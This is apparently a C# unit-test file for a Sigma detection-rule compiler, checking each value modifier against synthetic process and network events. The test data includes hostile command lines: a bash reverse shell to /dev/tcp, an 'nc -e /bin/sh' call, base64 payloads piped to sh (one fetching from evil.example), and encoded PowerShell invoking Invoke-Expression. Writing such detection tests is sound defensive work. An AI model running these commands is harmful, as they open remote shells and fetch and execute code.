using System.Text;
using Osprey.Contracts.V1;
using Osprey.Detection.Sigma;
using Xunit;
using static Osprey.Detection.Tests.Sigma.SigmaEvents;
using static Osprey.Detection.Tests.Sigma.SigmaTestRules;

namespace Osprey.Detection.Tests.Sigma;

/// <summary>Each value modifier of the specification, with an event that matches and one that does not.</summary>
public sealed class SigmaModifierTests
{
    private const string Network = "category: network_connection\n    product: linux";

    private static Event Curl(params string[] argv) => Exec("/usr/bin/curl", ["curl", .. argv]);

    [Fact]
    public void PlainValue_IsAWholeCaseInsensitiveEquality()
    {
        var rule = Compile("selection:\n    Image: '/usr/bin/CURL'\ncondition: selection");
        Assert.True(Matches(rule, Curl("-s")));
        Assert.False(Matches(rule, Exec("/usr/bin/curl2", ["curl2"])));
        Assert.False(Matches(rule, Exec("/opt/usr/bin/curl", ["curl"])));
    }

    [Fact]
    public void Contains_MatchesAnywhere()
    {
        var rule = Compile("selection:\n    CommandLine|contains: '/TMP/x.sh'\ncondition: selection");
        Assert.True(Matches(rule, Curl("-o", "/tmp/x.sh", "http://a")));
        Assert.False(Matches(rule, Curl("-o", "/tmp/y.sh")));
    }

    [Fact]
    public void StartsWith_And_EndsWith_AnchorOneEnd()
    {
        var starts = Compile("selection:\n    CommandLine|startswith: 'curl -s'\ncondition: selection");
        Assert.True(Matches(starts, Curl("-s", "http://a")));
        Assert.False(Matches(starts, Curl("-v", "-s")));

        var ends = Compile("selection:\n    Image|endswith:\n        - '/curl'\n        - '/wget'\n        - '/nc'\n        - '/ncat'\n        - 'python3'\ncondition: selection");
        Assert.True(Matches(ends, Curl()));
        Assert.True(Matches(ends, Exec("/usr/local/bin/python3", ["python3"])));
        Assert.False(Matches(ends, Exec("/usr/bin/xcurl", ["xcurl"])));
        Assert.False(Matches(ends, Exec("/usr/bin/curl-config", ["curl-config"])));
    }

    [Fact]
    public void Wildcards_StarAndQuestionMark_AndEscapedOnesAreLiteral()
    {
        var rule = Compile("selection:\n    CommandLine: 'curl * -o /tmp/?.sh'\ncondition: selection");
        Assert.True(Matches(rule, Curl("-s", "http://a", "-o", "/tmp/x.sh")));
        Assert.False(Matches(rule, Curl("-s", "http://a", "-o", "/tmp/xy.sh")));

        var literal = Compile("selection:\n    CommandLine|contains: 'echo \\*\\?'\ncondition: selection");
        Assert.True(Matches(literal, Exec("/usr/bin/sh", ["sh", "-c", "echo *?"])));
        Assert.False(Matches(literal, Exec("/usr/bin/sh", ["sh", "-c", "echo ab"])));

        var home = Compile("selection:\n    CurrentDirectory: '/home/*/.ssh'\ncondition: selection");
        Assert.True(Matches(home, Exec("/usr/bin/ls", ["ls"], cwd: "/home/alice/.ssh")));
        Assert.False(Matches(home, Exec("/usr/bin/ls", ["ls"], cwd: "/home/alice/.sshd")));
    }

    [Fact]
    public void All_LinksTheValuesByAnd()
    {
        var rule = Compile("selection:\n    CommandLine|contains|all:\n        - ' -o '\n        - 'http'\ncondition: selection");
        Assert.True(Matches(rule, Curl("-o", "/tmp/a", "http://x")));
        Assert.False(Matches(rule, Curl("http://x")));
    }

    [Fact]
    public void Cased_MatchesCaseSensitively()
    {
        var rule = Compile("selection:\n    CommandLine|contains|cased: ' -O '\ncondition: selection");
        Assert.True(Matches(rule, Curl("-O", "http://x")));
        Assert.False(Matches(rule, Curl("-o", "x", "http://x")));
    }

    [Fact]
    public void Re_IsACaseSensitiveSearch_AndTakesTheIMSSubModifiers()
    {
        var rule = Compile("selection:\n    CommandLine|re: '\\s-[FTd]\\s'\ncondition: selection");
        Assert.True(Matches(rule, Curl("-T", "file", "ftp://x")));
        Assert.False(Matches(rule, Curl("-t", "file")));

        var insensitive = Compile("selection:\n    CommandLine|re|i: 'CURL\\s+-S'\ncondition: selection");
        Assert.True(Matches(insensitive, Curl("-s")));
        Assert.False(Matches(insensitive, Curl("-v")));

        var multiline = Compile("selection:\n    CommandLine|re|m: '^id$'\ncondition: selection");
        var withLines = Exec("/usr/bin/sh", ["sh", "-c", "true\nid\nexit"]);
        Assert.True(Matches(multiline, withLines));
        Assert.False(Matches(Compile("selection:\n    CommandLine|re: '^id$'\ncondition: selection"), withLines));

        var dotAll = Compile("selection:\n    CommandLine|re|s: 'true.id'\ncondition: selection");
        Assert.True(Matches(dotAll, withLines));
        Assert.False(Matches(Compile("selection:\n    CommandLine|re: 'true.id'\ncondition: selection"), withLines));
    }

    [Fact]
    public void Cidr_MatchesIPv4AndIPv6Networks()
    {
        var rule = Compile("selection:\n    DestinationIp|cidr:\n        - '10.0.0.0/8'\n        - '192.168.1.0/24'\n        - 'fc00::/7'\n        - '::1/128'\ncondition: selection", Network);
        Assert.True(Matches(rule, Connection("/usr/bin/curl", "10.1.1.1", 40000, "10.200.3.4", 443)));
        Assert.True(Matches(rule, Connection("/usr/bin/curl", "10.1.1.1", 40000, "192.168.1.77", 443)));
        Assert.True(Matches(rule, Connection("/usr/bin/curl", "fd00::1", 40000, "fd12:3456::9", 443)));
        Assert.True(Matches(rule, Connection("/usr/bin/curl", "::1", 40000, "::1", 443)));
        Assert.True(Matches(rule, Connection("/usr/bin/curl", "::1", 40000, "::ffff:10.0.0.9", 443)));
        Assert.False(Matches(rule, Connection("/usr/bin/curl", "10.1.1.1", 40000, "192.168.2.1", 443)));
        Assert.False(Matches(rule, Connection("/usr/bin/curl", "10.1.1.1", 40000, "11.0.0.1", 443)));
        Assert.False(Matches(rule, Connection("/usr/bin/curl", "::1", 40000, "2001:db8::1", 443)));
    }

    [Fact]
    public void Base64_MatchesTheEncodedValue()
    {
        var rule = Compile("selection:\n    CommandLine|base64|contains: 'whoami'\ncondition: selection");
        Assert.True(Matches(rule, Exec("/usr/bin/sh", ["sh", "-c", "echo d2hvYW1p | base64 -d | sh"])));
        Assert.False(Matches(rule, Exec("/usr/bin/sh", ["sh", "-c", "echo aWQ= | base64 -d | sh"])));
    }

    [Theory]
    [InlineData("")]
    [InlineData("x")]
    [InlineData("xy")]
    public void Base64Offset_MatchesTheValueAtAnyOffsetOfTheEncodedInput(string prefix)
    {
        var rule = Compile("selection:\n    CommandLine|base64offset|contains: 'http://'\ncondition: selection");
        var encoded = Convert.ToBase64String(Encoding.UTF8.GetBytes(prefix + "curl http://evil.example/x"));
        Assert.True(Matches(rule, Exec("/usr/bin/sh", ["sh", "-c", $"echo {encoded} | base64 -d | sh"])));
        var other = Convert.ToBase64String(Encoding.UTF8.GetBytes(prefix + "curl https://evil.example/x"));
        Assert.False(Matches(rule, Exec("/usr/bin/sh", ["sh", "-c", $"echo {other} | base64 -d | sh"])));
    }

    [Fact]
    public void Base64Offset_GivesTheSameThreeVariantsAsPySigma()
    {
        var rule = Compile("selection:\n    CommandLine|base64offset|contains: 'http://'\ncondition: selection");
        foreach (var variant in new[] { "aHR0cDovL", "h0dHA6Ly", "odHRwOi8v" })
        {
            Assert.True(Matches(rule, Exec("/usr/bin/echo", ["echo", "xx" + variant + "yy"])), variant);
        }
    }

    [Theory]
    [InlineData("wide", "utf-16le")]
    [InlineData("utf16le", "utf-16le")]
    [InlineData("utf16be", "utf-16be")]
    [InlineData("utf16", "utf-16-bom")]
    public void Utf16Encodings_CombineWithBase64(string modifier, string encoding)
    {
        var rule = Compile($"selection:\n    CommandLine|{modifier}|base64offset|contains: 'Invoke-Expression'\ncondition: selection");
        byte[] Encode(string text) => encoding switch
        {
            "utf-16le" => Encoding.Unicode.GetBytes(text),
            "utf-16be" => Encoding.BigEndianUnicode.GetBytes(text),
            _ => [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(text)],
        };
        var payload = encoding == "utf-16-bom" ? Encode("Invoke-Expression $x") : Encode("$a; Invoke-Expression $x");
        Assert.True(Matches(rule, Exec("/usr/bin/pwsh", ["pwsh", "-enc", Convert.ToBase64String(payload)])));
        Assert.False(Matches(rule, Exec("/usr/bin/pwsh", ["pwsh", "-enc", Convert.ToBase64String(Encode("$a; Write-Output $x"))])));
        Assert.False(Matches(rule, Exec("/usr/bin/pwsh", ["pwsh", "-enc", Convert.ToBase64String(Encoding.UTF8.GetBytes("$a; Invoke-Expression $x"))])));
    }

    [Fact]
    public void Windash_MatchesEveryDashOfAFlag()
    {
        var rule = Compile("selection:\n    CommandLine|windash|contains: ' -exec '\ncondition: selection");
        foreach (var dash in new[] { "-", "/", "–", "—", "―" })
        {
            Assert.True(Matches(rule, Exec("/usr/bin/find", ["find", ".", dash + "exec", "sh", ";"])), dash);
        }

        Assert.False(Matches(rule, Exec("/usr/bin/find", ["find", ".", "+exec", "sh"])));
        Assert.False(Matches(rule, Exec("/usr/bin/find", ["find", ".", "-execdir", "sh"])));
    }

    [Fact]
    public void Exists_TestsWhetherTheFieldHasAValue()
    {
        var exists = Compile("selection:\n    ParentCommandLine|exists: true\ncondition: selection");
        var missing = Compile("selection:\n    ParentCommandLine|exists: false\ncondition: selection");
        var withParent = Curl();
        var orphan = Curl();
        orphan.ProcessStart.Parent = null;
        Assert.True(Matches(exists, withParent));
        Assert.False(Matches(exists, orphan));
        Assert.True(Matches(missing, orphan));
        Assert.False(Matches(missing, withParent));
    }

    [Fact]
    public void NumericComparisons_ReadTheFieldAsANumber()
    {
        Event To(int port) => Connection("/usr/bin/nc", "10.0.0.1", 40000, "1.2.3.4", port);
        var gt = Compile("selection:\n    DestinationPort|gt: 1024\ncondition: selection", Network);
        var gte = Compile("selection:\n    DestinationPort|gte: 1024\ncondition: selection", Network);
        var lt = Compile("selection:\n    DestinationPort|lt: 1024\ncondition: selection", Network);
        var lte = Compile("selection:\n    DestinationPort|lte: '1024'\ncondition: selection", Network);
        Assert.True(Matches(gt, To(4444)));
        Assert.False(Matches(gt, To(1024)));
        Assert.True(Matches(gte, To(1024)));
        Assert.False(Matches(gte, To(1023)));
        Assert.True(Matches(lt, To(80)));
        Assert.False(Matches(lt, To(1024)));
        Assert.True(Matches(lte, To(1024)));
        Assert.False(Matches(lte, To(1025)));
        Assert.False(Matches(Compile("selection:\n    Image|gt: 5\ncondition: selection", Network), To(80)));
    }

    [Fact]
    public void FieldRef_ComparesTwoFieldsOfTheSameEvent()
    {
        var same = Compile("selection:\n    Image|fieldref: ParentImage\ncondition: selection");
        Assert.True(Matches(same, Exec("/usr/bin/bash", ["bash"], parentImage: "/usr/bin/bash")));
        Assert.False(Matches(same, Exec("/usr/bin/bash", ["bash"], parentImage: "/usr/sbin/sshd")));

        var contains = Compile("selection:\n    CommandLine|fieldref|contains: ParentImage\ncondition: selection");
        Assert.True(Matches(contains, Exec("/usr/bin/strace", ["strace", "/usr/sbin/sshd"], parentImage: "/usr/sbin/sshd")));
        Assert.False(Matches(contains, Exec("/usr/bin/strace", ["strace", "ls"], parentImage: "/usr/sbin/sshd")));

        var different = Compile("selection:\n    Image|fieldref|neq: ParentImage\ncondition: selection");
        Assert.True(Matches(different, Exec("/usr/bin/bash", ["bash"], parentImage: "/usr/sbin/sshd")));
        Assert.False(Matches(different, Exec("/usr/bin/bash", ["bash"], parentImage: "/usr/bin/bash")));
    }

    [Fact]
    public void Neq_MatchesEveryOtherValue()
    {
        var rule = Compile("selection:\n    Image|endswith: '/sudo'\n    User|neq:\n        - root\n        - admin\ncondition: selection");
        Assert.True(Matches(rule, Exec("/usr/bin/sudo", ["sudo", "id"], user: "alice")));
        Assert.False(Matches(rule, Exec("/usr/bin/sudo", ["sudo", "id"], user: "ROOT")));
        Assert.False(Matches(rule, Exec("/usr/bin/sudo", ["sudo", "id"], user: "admin")));
    }

    [Fact]
    public void Null_And_Empty_MatchAnAbsentField()
    {
        var nullRule = Compile("selection:\n    Image|endswith: '/curl'\nfilter:\n    ParentCommandLine: null\ncondition: selection and filter");
        var emptyRule = Compile("selection:\n    Image|endswith: '/curl'\nfilter:\n    CurrentDirectory: ''\ncondition: selection and filter");
        var orphan = Curl();
        orphan.ProcessStart.Parent = null;
        orphan.ProcessStart.Cwd = "";
        Assert.True(Matches(nullRule, orphan));
        Assert.False(Matches(nullRule, Curl()));
        Assert.True(Matches(emptyRule, orphan));
        Assert.False(Matches(emptyRule, Curl()));
    }

    [Fact]
    public void Expand_UsesConfiguredPlaceholders_AndAnUnknownOneIsUnsupported()
    {
        var yaml = Yaml("selection:\n    User|expand: '%Administrators%'\ncondition: selection");
        var options = new SigmaCompilerOptions { Placeholders = new Dictionary<string, IReadOnlyList<string>> { ["Administrators"] = ["root", "adm-*"] } };
        var result = Assert.Single(new SigmaCompiler(options).Compile(yaml, "expand.yml"));
        Assert.Equal(SigmaCompileStatus.Compiled, result.Status);
        Assert.True(Matches(result.Compiled!, Curl()));
        Assert.True(Matches(result.Compiled!, Exec("/usr/bin/curl", ["curl"], user: "adm-bob")));
        Assert.False(Matches(result.Compiled!, Exec("/usr/bin/curl", ["curl"], user: "alice")));

        var unresolved = CompileResult(yaml);
        Assert.Equal(SigmaCompileStatus.Unsupported, unresolved.Status);
        Assert.Contains("%Administrators%", unresolved.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void Keywords_SearchTheDocumentedFields()
    {
        var rule = Compile("keywords:\n    - 'bash -i >& /dev/tcp/'\n    - 'nc -e'\ncondition: keywords");
        Assert.True(Matches(rule, Exec("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"])));
        Assert.True(Matches(rule, Exec("/usr/bin/sh", ["sh"], parentArgv: ["nc", "-e", "/bin/sh", "1.2.3.4"])));
        Assert.False(Matches(rule, Exec("/usr/bin/bash", ["bash", "-i"])));

        var all = Compile("keywords:\n    '|all':\n        - 'grep'\n        - 'password'\ncondition: keywords");
        Assert.True(Matches(all, Exec("/usr/bin/grep", ["grep", "-r", "password", "/etc"])));
        Assert.True(Matches(all, Exec("/usr/bin/cat", ["cat", "/etc/password.txt"], parentArgv: ["grep", "x"])));
        Assert.False(Matches(all, Exec("/usr/bin/grep", ["grep", "-r", "secret", "/etc"])));
    }

    [Fact]
    public void IntegerValues_CompareAsText()
    {
        var rule = Compile("selection:\n    DestinationPort:\n        - 4444\n        - 888\ncondition: selection", Network);
        Assert.True(Matches(rule, Connection("/usr/bin/nc", "10.0.0.1", 40000, "1.2.3.4", 4444)));
        Assert.True(Matches(rule, Connection("/usr/bin/nc", "10.0.0.1", 40000, "1.2.3.4", 888)));
        Assert.False(Matches(rule, Connection("/usr/bin/nc", "10.0.0.1", 40000, "1.2.3.4", 44444)));
    }

    [Fact]
    public void TimeModifiers_AreReportedUnsupported()
    {
        var result = CompileResult(Yaml("selection:\n    UtcTime|hour: 3\ncondition: selection"));
        Assert.Equal(SigmaCompileStatus.Unsupported, result.Status);
        Assert.Contains("time modifier 'hour'", result.Reason, StringComparison.Ordinal);
    }
}
